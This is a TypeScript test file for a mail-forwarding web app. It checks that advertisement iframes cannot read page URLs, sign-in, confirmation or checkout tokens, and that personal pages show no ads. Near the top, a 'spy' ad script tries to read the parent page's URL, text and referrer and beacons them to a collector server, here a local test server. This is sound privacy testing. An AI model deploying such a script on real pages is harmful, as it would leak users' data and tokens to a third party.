import { once } from 'node:events'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createServer, type IncomingMessage } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { subscribeIn } from '#test/support/fixtures/subscriber.ts'
import { outboxOf } from '#test/support/mail/outbox.ts'
import { newVisit } from '#test/support/program/browser.ts'
import { openStage, type Stage, untilHydrated } from './stage.ts'

/** An advertisement that sends everything it can read about itself and its page to its own server. */
const spy = (url: string): string => `<!doctype html><body><script>
const read = (get) => { try { return String(get()) } catch { return '' } }
const visible = {
  referrer: read(() => document.referrer),
  here: read(() => location.href),
  page: read(() => parent.location.href),
  address: read(() => parent.document.body.innerText),
  name: read(() => window.name),
  loaded: read(() => performance.getEntries().map((entry) => entry.name)),
}
document.body.textContent = JSON.stringify(visible)
new Image().src = ${JSON.stringify(url)} + '/?' + encodeURIComponent(JSON.stringify(visible))
</script>`

const calls: string[] = []
const collector = createServer((request: IncomingMessage, response) => {
  calls.push(`${decodeURIComponent(request.url ?? '')} ${JSON.stringify(request.headers)}`)
  response.end()
})

let stage: Stage
let directory: string
beforeAll(async () => {
  await once(collector.listen(0, '127.0.0.1'), 'listening')
  directory = await mkdtemp(join(tmpdir(), 'mayfly-ads-'))
  const file = join(directory, 'ad.html')
  await writeFile(file, spy(`http://127.0.0.1:${(collector.address() as AddressInfo).port}`))
  stage = await openStage({ env: { MAYFLY_AD_TOP_FILE: file, MAYFLY_AD_BOTTOM_FILE: file } })
})
afterAll(async () => {
  await stage.close()
  collector.close()
  await rm(directory, { recursive: true })
})

/** Returns what the advertisement above the page can read. */
const readableOn = async (page: Page) =>
  JSON.parse((await page.frameLocator('aside iframe').first().locator('body').textContent()) ?? '') as {
    referrer: string
    page: string
  }
const adsOn = (page: Page) => page.locator('iframe[src^="/ads/"]').count()

test('an advertisement cannot read the URL of its page', async () => {
  const { page } = await newVisit(stage.browser)
  await page.goto(`${stage.program.url}/en/articles?secret=of-the-query`)
  expect(await readableOn(page)).toMatchObject({ referrer: '', page: '' })
  await expect.poll(() => calls.length).toBeGreaterThan(0)
  expect(calls.join('\n')).not.toMatch(/of-the-query|"referer"/)
})

test.each([true, false])(
  'keeps tokens out of advertisements, URLs and the history (JavaScript: %s)',
  async (script) => {
    const email = `ads-${script}@example.com`
    const destination = `reads-${script}@real.example`
    await subscribeIn(stage.program, email)
    const outbox = outboxOf(stage.program)
    const { page } = await newVisit(stage.browser, { javaScriptEnabled: script })
    const urls: string[] = []
    page.on('framenavigated', (frame) => urls.push(frame.url()))

    await page.goto(`${stage.program.url}/en/account`)
    await page.getByLabel('Your real email').fill(email)
    await page.getByRole('button', { name: 'Send link' }).click()
    const signIn = (await outbox.next(email, 'sign-in')).link
    // Another browser, which the link does not sign in.
    const { page: other } = await newVisit(stage.browser, { javaScriptEnabled: script })
    other.on('framenavigated', (frame) => urls.push(frame.url()))
    await other.goto(signIn.href)
    await other.getByRole('heading').first().waitFor()
    expect([other.url(), await adsOn(other)]).toEqual([`${stage.program.url}/en/account`, 0])

    const client = await stage.visit()
    await client.page.evaluate(
      async (to) =>
        fetch('/api/v1/forwardings', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ destination: to, lang: 'en' }),
        }),
      destination,
    )
    const confirm = (await outbox.next(destination, 'forwarding-confirm')).link
    await other.goto(confirm.href)
    await other.getByRole('heading', { name: 'Allow forwarding to your address?' }).waitFor()
    expect([other.url(), await adsOn(other)]).toEqual([`${stage.program.url}/en/forwarded`, 0])
    await other.getByRole('button', { name: 'Allow forwarding' }).click()
    await other.getByRole('heading', { name: 'Forwarding is on' }).waitFor()
    expect(await adsOn(other)).toBe(0)
    const stop = (await outbox.next(destination, 'forwarding-on')).link
    await other.goto(stop.href)
    await other.getByRole('heading', { name: 'Stop forwarding to you?' }).waitFor()
    expect(other.url()).toBe(`${stage.program.url}/en/forwarded`)

    await other.goto(`${stage.program.url}/en/premium`)
    await other.getByRole('radio', { name: '1 month' }).check()
    await other.getByLabel('Your real email').fill(email)
    const ordered = other.waitForRequest((request) => request.url().includes('/checkout?order='))
    await other.getByRole('button', { name: 'Continue to payment' }).click()
    const order = new URL((await ordered).url()).searchParams.get('order') ?? ''
    await other.getByRole('heading', { name: 'Test checkout' }).waitFor()
    expect([other.url(), await adsOn(other)]).toEqual([`${stage.program.url}/en/checkout`, 0])

    // Goes to a page with an advertisement, then back through the pages before it.
    await other.goto(`${stage.program.url}/en`)
    await readableOnIf(script, other)
    for (let i = 0; i < 3; i++) await other.goBack()
    const tokens = [
      signIn.searchParams.get('link'),
      confirm.searchParams.get('confirm'),
      stop.searchParams.get('stop'),
      order,
    ]
    for (const token of tokens) {
      expect(token).toMatch(/^[\w-]{22,}$/)
      for (const observed of [...calls, ...urls]) expect(observed).not.toContain(token)
    }
  },
)

/** Waits until the advertisement has run, if pages run scripts. */
async function readableOnIf(script: boolean, page: Page): Promise<void> {
  if (script) expect(await readableOn(page)).toMatchObject({ referrer: '', page: '' })
}

test('shows no advertisement on personal pages, also after client-side navigation', async () => {
  const { page } = await stage.visit()
  expect(await adsOn(page)).toBe(2)
  for (const path of ['account', 'forwarding', 'forwarded', 'private']) {
    const html = await (await fetch(`${stage.program.url}/en/${path}`)).text()
    expect([path, html.includes('/ads/')]).toEqual([path, false])
  }
  await untilHydrated(page)
  await page.getByRole('link', { name: 'Forward', exact: true }).click()
  await page.getByRole('heading', { name: 'Forwarding' }).waitFor()
  expect(await adsOn(page)).toBe(0)
  await page.goBack()
  await page.locator('output').waitFor()
  await expect.poll(() => adsOn(page)).toBe(2)
})

test('the frame of a message is requested without a referrer', async () => {
  const { page, send } = await stage.visit()
  await send('Boats', { html: '<p>Buy a boat</p>' })
  const frameRequest = page.waitForRequest((request) => request.url().includes('/frame/message'))
  await page.getByRole('link', { name: 'Boats', exact: true }).click()
  expect((await (await frameRequest).allHeaders()).referer).toBeUndefined()
})
